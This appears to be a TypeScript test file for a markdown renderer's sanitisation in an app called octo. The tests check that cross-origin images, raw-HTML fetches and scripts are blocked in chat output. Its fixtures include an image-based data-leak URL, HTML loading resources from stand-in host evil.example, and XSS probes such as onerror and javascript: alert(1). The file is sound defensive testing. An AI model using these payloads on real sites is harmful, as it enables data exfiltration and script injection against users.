import { describe, expect, test } from "bun:test";
import createDOMPurify from "dompurify";
import { JSDOM } from "jsdom";
import { Marked } from "marked";
import { CHAT_MARKDOWN, createMarkdownRenderer, FILE_MARKDOWN, type MarkdownOptions } from "./markdown.ts";

/** The renderers against jsdom (a real HTML parser, the one DOMPurify's own tests use), as served from octo. */
const ORIGIN = "http://octo.test:8080";
const window = new JSDOM("", { url: `${ORIGIN}/projects` }).window as unknown as Window & typeof globalThis;
const renderer = (options: MarkdownOptions) =>
  createMarkdownRenderer(options, { Marked, createDOMPurify, window });

/** Parsed output, to ask about elements rather than compare strings. */
const dom = (html: string) => {
  const div = window.document.createElement("div");
  div.innerHTML = html;
  return div;
};

const LEAK = "![x](http://127.0.0.1:9/leak?q=secret)";
const SAMPLE = [
  "line one",
  "line two",
  "",
  "- [x] done",
  "",
  LEAK,
  "",
  "[out](https://example.com/a) [in](/projects/prj_1) [top](#top)",
].join("\n");

describe("chat markdown", () => {
  const chat = renderer(CHAT_MARKDOWN);

  test("an image from another site is a placeholder showing its URL, with nothing to fetch", () => {
    const out = dom(chat(LEAK));
    expect(out.querySelector("img")).toBeNull();
    const placeholder = out.querySelector("button.md-image-blocked") as HTMLButtonElement;
    expect(placeholder.dataset.src).toBe("http://127.0.0.1:9/leak?q=secret");
    expect(placeholder.dataset.alt).toBe("x");
    expect(placeholder.textContent).toContain("http://127.0.0.1:9/leak?q=secret");
    // No attribute anywhere holds a URL a browser would fetch on its own.
    expect(chat(LEAK)).not.toMatch(/\s(src|srcset|href|style)=/);
  });

  test("protocol-relative and other-port images count as other sites", () => {
    for (const src of ["//evil.example/x.png", "http://octo.test:9999/x.png", "https://octo.test:8080/x.png"])
      expect(dom(chat(`![a](${src})`)).querySelector("img")).toBeNull();
  });

  test("data: and same-origin images render as they are; blob: stays as DOMPurify leaves it", () => {
    const data = "data:image/png;base64,iVBORw0KGgo=";
    for (const src of [data, "/api/x.png", `${ORIGIN}/x.png`]) {
      const img = dom(chat(`![a](${src})`)).querySelector("img");
      expect(img?.getAttribute("src")).toBe(src);
    }
    // DOMPurify's URL rules drop a blob: src (as they always did); it is never a placeholder.
    expect(dom(chat(`![a](blob:${ORIGIN}/1e2d)`)).querySelector("button")).toBeNull();
  });

  test("raw HTML cannot fetch behind the placeholder's back", () => {
    const html = [
      `<img src="data:image/png;base64,AA==" srcset="http://evil.example/a.png 2x">`,
      `<p style="background:url(http://evil.example/b.png)">styled</p>`,
      `<video poster="http://evil.example/c.png" src="http://evil.example/v.mp4"></video>`,
      `<picture><source srcset="http://evil.example/d.png"></picture>`,
      `<table background="http://evil.example/e.png"><tr><td>t</td></tr></table>`,
    ].join("\n");
    expect(chat(html)).not.toContain("evil.example");
  });

  test("links: never an opener or a referrer; a new tab only when they leave octo", () => {
    const links = [...dom(chat(SAMPLE)).querySelectorAll("a")];
    expect(links.map((a) => [a.textContent, a.getAttribute("rel"), a.getAttribute("target")])).toEqual([
      ["out", "noopener noreferrer", "_blank"],
      ["in", "noopener noreferrer", null],
      ["top", "noopener noreferrer", null],
    ]);
  });

  test("scripts, handlers, javascript: URLs, forms and buttons are removed", () => {
    const out = chat(
      `<script>alert(1)</script><img src=x onerror="alert(1)"><a href="javascript:alert(1)">j</a>` +
        `<form><input name=a><button>b</button></form>`,
    );
    expect(out).not.toMatch(/script|onerror|javascript:|<form|<input|<button>/);
  });
});

describe("file-preview markdown", () => {
  const file = renderer(FILE_MARKDOWN);

  test("images load (a README's badges), task lists keep their checkboxes, newlines join lines", () => {
    const out = dom(file(SAMPLE));
    expect(out.querySelector("img")?.getAttribute("src")).toBe("http://127.0.0.1:9/leak?q=secret");
    expect(out.querySelector("input[type=checkbox]")).not.toBeNull();
    expect(out.querySelector("br")).toBeNull();
    expect(out.querySelector("button")).toBeNull();
  });

  test("the same link rules as chat", () => {
    const out = dom(file("[out](https://example.com/a)"));
    expect(out.querySelector("a")?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(out.querySelector("a")?.getAttribute("target")).toBe("_blank");
  });
});

describe("the presets do not leak into each other", () => {
  test("file output is the same before and after chat renders, and chat's before and after files render", () => {
    // Fresh renderers on one window, as in the app: any shared DOMPurify state would show here.
    const file = renderer(FILE_MARKDOWN);
    const fileBefore = file(SAMPLE);
    const chat = renderer(CHAT_MARKDOWN);
    const chatBefore = chat(SAMPLE);
    expect(file(SAMPLE)).toBe(fileBefore);
    renderer(FILE_MARKDOWN)(SAMPLE);
    expect(chat(SAMPLE)).toBe(chatBefore);
    // …and the two really differ, so the comparison above could fail.
    expect(dom(chatBefore).querySelector("img, input")).toBeNull();
    expect(dom(chatBefore).querySelector("br")).not.toBeNull();
    expect(dom(fileBefore).querySelector("img")).not.toBeNull();
  });

  test("a DOMPurify made afterwards on the same window has no hooks from ours", () => {
    renderer(CHAT_MARKDOWN)(SAMPLE);
    const plain = createDOMPurify(window).sanitize(`<a href="https://example.com">x</a>`);
    expect(plain).toBe(`<a href="https://example.com">x</a>`);
  });
});
